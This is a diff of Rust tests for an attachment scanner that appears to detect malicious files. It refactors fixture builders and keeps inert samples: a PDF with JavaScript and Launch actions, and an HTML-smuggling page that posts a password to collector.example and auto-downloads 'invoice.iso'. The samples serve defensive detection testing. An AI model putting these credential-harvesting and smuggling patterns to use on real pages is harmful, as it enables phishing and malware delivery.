+    use super::samples::{self, cfb_file, crc32, fake_pe, zip_raw, RawMember};
     use super::*;
-    use miniz_oxide::deflate::{compress_to_vec, compress_to_vec_zlib};
-    use std::io::Write;
-    use std::path::Path;
+    use miniz_oxide::deflate::compress_to_vec;
 
     fn att<'a>(name: &'a str, bytes: &'a [u8]) -> Attachment<'a> {
         Attachment {
@@ -3171,21 +3255,6 @@ mod tests {
 
     fn rules(r: &Report) -> Vec<&'static str> {
         r.evidence.iter().map(|e| e.rule).collect()
-    }
-
-    fn crc32(b: &[u8]) -> u32 {
-        let mut c = !0u32;
-        for &x in b {
-            c ^= u32::from(x);
-            for _ in 0..8 {
-                c = if c & 1 != 0 {
-                    (c >> 1) ^ 0xEDB8_8320
-                } else {
-                    c >> 1
-                };
-            }
-        }
-        !c
     }
 
     /// A zip member to build.
@@ -3209,76 +3278,22 @@ mod tests {
     }
 
     fn zip(members: &[M]) -> Vec<u8> {
-        let mut out = Vec::new();
-        let mut cd = Vec::new();
-        for x in members {
-            let packed = if x.deflate {
-                compress_to_vec(x.data, 6)
-            } else {
-                x.data.to_vec()
-            };
-            let method: u16 = if x.deflate { 8 } else { 0 };
-            let size = x.declared.unwrap_or(x.data.len() as u32);
-            let crc = crc32(x.data);
-            let off = out.len() as u32;
-            let common = |v: &mut Vec<u8>| {
-                v.extend(x.flags.to_le_bytes());
-                v.extend(method.to_le_bytes());
-                v.extend([0u8; 4]);
-                v.extend(crc.to_le_bytes());
-                v.extend((packed.len() as u32).to_le_bytes());
-                v.extend(size.to_le_bytes());
-                v.extend((x.name.len() as u16).to_le_bytes());
-                v.extend(0u16.to_le_bytes());
-            };
-            out.extend(b"PK\x03\x04");
-            out.extend(20u16.to_le_bytes());
-            common(&mut out);
-            out.extend(x.name.as_bytes());
-            out.extend(&packed);
-            cd.extend(b"PK\x01\x02");
-            cd.extend(20u16.to_le_bytes());
-            cd.extend(20u16.to_le_bytes());
-            common(&mut cd);
-            cd.extend([0u8; 10]);
-            cd.extend(off.to_le_bytes());
-            cd.extend(x.name.as_bytes());
-        }
-        let cd_off = out.len() as u32;
-        out.extend(&cd);
-        out.extend(b"PK\x05\x06");
-        out.extend([0u8; 4]);
-        out.extend((members.len() as u16).to_le_bytes());
-        out.extend((members.len() as u16).to_le_bytes());
-        out.extend((cd.len() as u32).to_le_bytes());
-        out.extend(cd_off.to_le_bytes());
-        out.extend([0u8; 2]);
-        out
-    }
-
-    fn cfb_file(streams: &[(&str, &[u8])]) -> Vec<u8> {
-        let mut c = cfb::CompoundFile::create(Cursor::new(Vec::new())).unwrap();
-        for (path, data) in streams {
-            let p = Path::new(path);
-            if let Some(parent) = p.parent().filter(|p| *p != Path::new("/")) {
-                c.create_storage_all(parent).unwrap();
-            }
-            let mut s = c.create_stream(p).unwrap();
-            s.write_all(data).unwrap();
-            s.flush().unwrap();
-        }
-        c.flush().unwrap();
-        c.into_inner().into_inner()
-    }
-
-    /// "MZ", `e_lfanew`, "PE\0\0" and a machine word: a header, no code.
-    fn fake_pe() -> Vec<u8> {
-        let mut b = vec![0u8; 0x100];
-        b[..2].copy_from_slice(b"MZ");
-        b[0x3c..0x40].copy_from_slice(&0x80u32.to_le_bytes());
-        b[0x80..0x84].copy_from_slice(b"PE\0\0");
-        b[0x84..0x86].copy_from_slice(&0x014cu16.to_le_bytes());
-        b
+        let raw: Vec<RawMember> = members
+            .iter()
+            .map(|x| RawMember {
+                name: x.name.to_owned(),
+                method: if x.deflate { 8 } else { 0 },
+                flags: x.flags,
+                packed: if x.deflate {
+                    compress_to_vec(x.data, 6)
+                } else {
+                    x.data.to_vec()
+                },
+                size: x.declared.unwrap_or(x.data.len() as u32),
+                crc: crc32(x.data),
+            })
+            .collect();
+        zip_raw(&raw)
     }
 
     /// A shell-link header with no target.
@@ -3423,13 +3438,7 @@ mod tests {
     const PDF_CLEAN: &[u8] = b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n";
 
     fn pdf_objstm() -> Vec<u8> {
-        let body = b"4 0 5 40 << /S /JavaScript /JS (void 0;) >> << /S /Launch /F (setup.exe) >>";
-        let mut b =
-            b"%PDF-1.5\n6 0 obj\n<< /Type /ObjStm /N 2 /First 8 /Filter /FlateDecode >>\nstream\n"
-                .to_vec();
-        b.extend(compress_to_vec_zlib(body, 6));
-        b.extend(b"\nendstream\nendobj\n%%EOF\n");
-        b
+        samples::pdf_objstm(b"%%EOF\n")
     }
 
     const HTML_SMUGGLE: &[u8] = b"<!DOCTYPE html><html><body>\n<form action=\"https://collector.example/login\" method=\"post\"><input type=\"password\" name=\"p\"></form>\n<script>\nvar d = atob(\"aW5lcnQ=\");\nvar b = new Blob([d], {type: \"application/octet-stream\"});\nvar a = document.createElement(\"a\"); a.href = URL.createObjectURL(b); a.download = \"invoice.iso\"; a.click();\n</script></body></html>\n";
@@ -3644,11 +3653,8 @@ mod tests {
                 ..Limits::default()
             },
         ] {
-            let mut ctx = Ctx {
-                lim: &lim,
-                unpack_left: lim.max_inflated_total,
-                members_left: 1,
-            };
+            let mut ctx = Ctx::new(&lim);
+            ctx.members_left = 1;
             let got = unpack(&mut ctx, &packed, Codec::Deflate, None);
             assert!(matches!(got, Unpacked::Bomb(_) | Unpacked::OverBudget));
             let used = lim.max_inflated_total - ctx.unpack_left;
